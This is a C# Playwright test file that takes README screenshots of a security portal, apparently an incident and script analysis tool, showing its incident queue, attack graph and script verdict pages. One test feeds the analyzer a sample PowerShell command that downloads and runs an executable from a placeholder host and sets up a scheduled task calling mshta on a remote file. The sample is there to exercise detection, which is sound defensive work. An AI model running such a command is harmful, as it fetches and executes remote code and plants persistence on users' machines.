using Microsoft.Playwright;
using Redoubt.Browser.Tests.Hosting;
using static Microsoft.Playwright.Assertions;

namespace Redoubt.Browser.Tests;

/// <summary>Draws the README's pictures anew: REDOUBT_SCREENSHOTS=1 ./dev test</summary>
public sealed class ScreenshotTests(BrowserLab lab) : BrowserTest(lab)
{
    [Theory]
    [InlineData("queue.png", "/incidents", AriaRole.Table, "Incidents")]
    [InlineData("incident.png", "/incidents/{incident}", AriaRole.Img, "Attack graph of")]
    public async Task PictureOfTheDemo(string file, string path, AriaRole role, string name)
    {
        Assert.SkipUnless(Environment.GetEnvironmentVariable("REDOUBT_SCREENSHOTS") == "1", "Pictures are drawn only with REDOUBT_SCREENSHOTS=1.");
        await using var portal = await Portal.StartAsync(demo: true);
        var incident = (await portal.GetAsync("/api/incidents?take=1")).GetProperty("items")[0].GetProperty("id").ToString();
        var page = await OpenAsync(portal, path.Replace("{incident}", incident));
        await Expect(page.GetByRole(role, new() { Name = name })).ToBeVisibleAsync();
        if (path.Contains('{'))
            await Expect(page.GetByRole(AriaRole.Article, new() { Name = "Incident summary" })).ToBeVisibleAsync();
        await Layout.ShouldBeWholeAsync(page);
        Directory.CreateDirectory(Built.ImagesFolder);
        await File.WriteAllBytesAsync(Path.Combine(Built.ImagesFolder, file), await WhenStillAsync(page), TestContext.Current.CancellationToken);
        // Before its server goes: the page would speak of the lost connection.
        await page.CloseAsync();
    }

    [Fact]
    public async Task PictureOfAScript()
    {
        Assert.SkipUnless(Environment.GetEnvironmentVariable("REDOUBT_SCREENSHOTS") == "1", "Pictures are drawn only with REDOUBT_SCREENSHOTS=1.");
        var scripts = await ScriptsPage.OfAsync(await OpenAsync(await Lab.Empty, "/scripts"));
        await scripts.AnalyzeAsync($"cmd /c \"{ScriptsPage.Encoded("""
            $u = 'http://cdn.exa' + 'mple.test/'
            (New-Object Net.WebClient).DownloadFile(($u + 'update.exe'), "$env:PUBLIC\update.exe")
            Start-Process "$env:PUBLIC\update.exe"
            schtasks /create /tn Update /tr 'mshta http://cdn.example.test/a.hta' /sc minute
            """)}\"");
        await Expect(scripts.Page.GetByRole(AriaRole.Region, new() { Name = "Verdict" })).ToContainTextAsync("Score");
        await File.WriteAllBytesAsync(Path.Combine(Built.ImagesFolder, "scripts.png"), await WhenStillAsync(scripts.Page), TestContext.Current.CancellationToken);
    }

    /// <summary>The graph is drawn coarsely at first, and sharp a moment later.</summary>
    private static async Task<byte[]> WhenStillAsync(IPage page)
    {
        var (before, now) = (Array.Empty<byte>(), await page.ScreenshotAsync());
        while (!now.AsSpan().SequenceEqual(before))
            (before, now) = (now, await page.ScreenshotAsync());
        return now;
    }
}
